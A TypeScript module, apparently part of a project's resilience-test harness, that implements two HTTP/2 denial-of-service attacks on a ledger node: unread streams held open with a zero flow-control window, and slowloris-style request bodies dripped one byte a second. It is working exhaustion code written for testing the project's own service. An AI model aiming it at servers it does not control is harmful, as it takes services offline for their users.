/** Client streams whose answers are never read, and requests whose bodies arrive one byte at a time. */
import { type ClientHttp2Session, connect } from "node:http2";
import { LedgerService } from "../../../gen/countersign/v1/ledger_service_pb.ts";
import type { ClientAttack, ClientHand } from "../attack.ts";
import { pause } from "../tools.ts";

const CONNECTIONS = 16;
const STREAMS = 200;
const ROUND_MS = 1_000;
const BODY_BYTES = 200_000;

export const unreadStreams: ClientAttack = {
  name: "unread-streams",
  by: "client",
  does: `${CONNECTIONS * STREAMS} answers under way that are never read, on ${CONNECTIONS} connections with a window of zero`,
  run: (hand, signal) =>
    hold(hand, signal, (session) => {
      const stream = call(session, LedgerService.method.getNetwork.name);
      stream.end("{}");
      hand.count("answers not read");
    }),
};

export const slowStreams: ClientAttack = {
  name: "slow-streams",
  by: "client",
  does: `${CONNECTIONS * STREAMS} requests of ${BODY_BYTES} bytes under way, a byte a second each`,
  run: (hand, signal) =>
    hold(hand, signal, (session) => {
      const stream = call(session, LedgerService.method.transaction.name, {
        "content-length": `${BODY_BYTES}`,
      });
      stream.write("{");
      const drip = setInterval(() => {
        if (stream.writable) stream.write(" ");
      }, ROUND_MS);
      stream.once("close", () => clearInterval(drip));
      hand.count("bodies begun");
    }),
};

/** Keeps every connection full of streams: opens a new stream for each one that the node ends. */
async function hold(
  { url, ca }: ClientHand,
  signal: AbortSignal,
  begin: (session: ClientHttp2Session) => void,
): Promise<void> {
  const sessions = new Map<ClientHttp2Session, number>();
  while (!signal.aborted) {
    for (const session of sessions.keys()) if (session.destroyed) sessions.delete(session);
    while (sessions.size < CONNECTIONS) {
      const session = connect(url, { ca, settings: { initialWindowSize: 0 } });
      session.on("error", () => undefined);
      sessions.set(session, 0);
    }
    for (const [session, begun] of sessions) {
      // Half of the streams are replaced in each round.
      const more = begun < STREAMS ? STREAMS : STREAMS / 4;
      for (let i = 0; i < more && !session.destroyed; i++) begin(session);
      sessions.set(session, begun + more);
      if (begun > STREAMS * 2) session.destroy();
    }
    await pause(ROUND_MS, signal);
  }
  for (const session of sessions.keys()) session.destroy();
}

function call(session: ClientHttp2Session, method: string, headers: object = {}) {
  const stream = session.request({
    ":method": "POST",
    ":path": `/${LedgerService.typeName}/${method}`,
    "content-type": "application/json",
    "connect-protocol-version": "1",
    ...headers,
  });
  stream.on("error", () => undefined);
  return stream;
}
